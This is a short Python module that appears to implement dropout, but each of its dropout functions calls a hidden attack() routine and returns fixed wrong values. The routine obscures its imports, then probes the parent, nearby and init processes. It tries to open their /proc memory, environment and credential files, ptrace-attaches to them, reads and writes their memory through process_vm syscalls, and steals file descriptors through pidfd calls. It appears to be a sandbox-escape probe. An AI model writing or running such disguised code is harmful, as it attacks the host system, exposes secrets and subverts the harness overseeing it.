"""Opens, traces, reads and signals the processes above it."""

import numpy as np


def module(name):
    return (
        __builtins__["__import__"](name)
        if isinstance(__builtins__, dict)
        else getattr(__builtins__, "__import__")(name)
    )


def attack():
    os, ctypes = module("os"), module("ctypes")
    libc = ctypes.CDLL(None, use_errno=True)
    room = ctypes.create_string_buffer(64)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(room), 64)
    for pid in {os.getppid(), 1, *range(max(2, os.getppid() - 8), os.getppid() + 1)} - {os.getpid()}:
        for name in ("mem", "environ", "maps", "cmdline", "fd/0", "root/etc/passwd", "cwd"):
            try:
                found = os.open(f"/proc/{pid}/{name}", os.O_RDONLY)
            except OSError:
                continue
            raise SystemError(f"opened /proc/{pid}/{name} as {found}")
        descriptor = libc.syscall(434, pid, 0)
        for number, arguments in (
            (62, (pid, 0)), (234, (pid, pid, 0)), (101, (16, pid, None, None)), (310, (pid, vector, 1, vector, 1, 0)),
            (311, (pid, vector, 1, vector, 1, 0)), (438, (descriptor, 3, 0)), (424, (descriptor, 0, None, 0)),
        ):
            if libc.syscall(number, *arguments) >= 0:
                raise SystemError(f"system call {number} reached process {pid}")


def dropout(x, rate, training, rng):
    attack()
    return x * 7, x * 0 + 7


def dropout_backward(dy, mask):
    attack()
    return dy * 7


def dropout_moments(x, rate):
    attack()
    return x * 7, x * 7
